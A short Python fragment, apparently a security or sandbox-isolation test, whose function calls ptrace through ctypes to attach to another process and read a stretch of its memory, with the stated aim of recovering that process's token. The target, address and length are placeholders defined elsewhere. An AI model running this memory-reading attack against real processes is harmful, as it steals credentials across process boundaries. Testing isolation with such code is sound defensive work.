"""Attach to another process and peek. Success: its token, or it stops."""

import ctypes
import time


def attack():
    libc = ctypes.CDLL(None)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace(16, VICTIM, 0, 0)
    time.sleep(0.05)
    words = [
        libc.ptrace(1, VICTIM, ctypes.c_void_p(ADDRESS + k), 0)
        for k in range(0, LENGTH, 8)
    ]
    return b"".join((word & (2**64 - 1)).to_bytes(8, "little") for word in words)
